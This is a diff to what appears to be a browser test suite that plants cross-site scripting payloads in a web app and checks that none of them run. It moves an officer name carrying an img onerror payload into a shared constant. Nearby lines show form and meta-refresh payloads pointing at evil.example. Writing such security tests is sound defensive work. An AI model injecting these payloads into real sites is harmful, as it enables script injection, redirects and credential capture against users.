@@ -31,6 +31,7 @@ PAYLOADS: Final = (
     "<form id=planted action=https://evil.example><input name=csrf>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
 )  # fmt: skip
+NAME: Final = "Mita <img src=x onerror=window.ran=1> Das"
 ALL: Final = " ".join(PAYLOADS)
 REFLECTED: Final = (
     "/conversations?q={}", "/conversations?words={}", "/conversations?district={}", "/workers?place={}",
@@ -49,7 +50,7 @@ REFLECTED: Final = (
 
 def planted(office: Office) -> list[str]:
     """Plants the payloads wherever somebody else's words are shown; the pages that show them."""
-    mita = office.client(office.officer("Mita <img src=x onerror=window.ran=1> Das", "state_admin"))
+    mita = office.client(office.officer(NAME, "state_admin"))
     wish = wished(office)
     number = 0
     for each in PAYLOADS:
@@ -114,7 +115,7 @@ def pages(office: Office) -> list[str]:
 def test_nothing_that_was_planted_runs(
     browser: Browser, office: Office, url: str, pages: list[str], language: str
 ) -> None:
-    officer = office.officer("Rina Sen", "state_admin", language=language)
+    officer = office.officer(NAME, "state_admin", language=language)
     context = browser.new_context(viewport=DESKTOP)
     context.add_cookies([{"name": "console", "value": office.cookie(officer), "url": url}])
     page, requests, troubles, seen = context.new_page(), [], [], 0
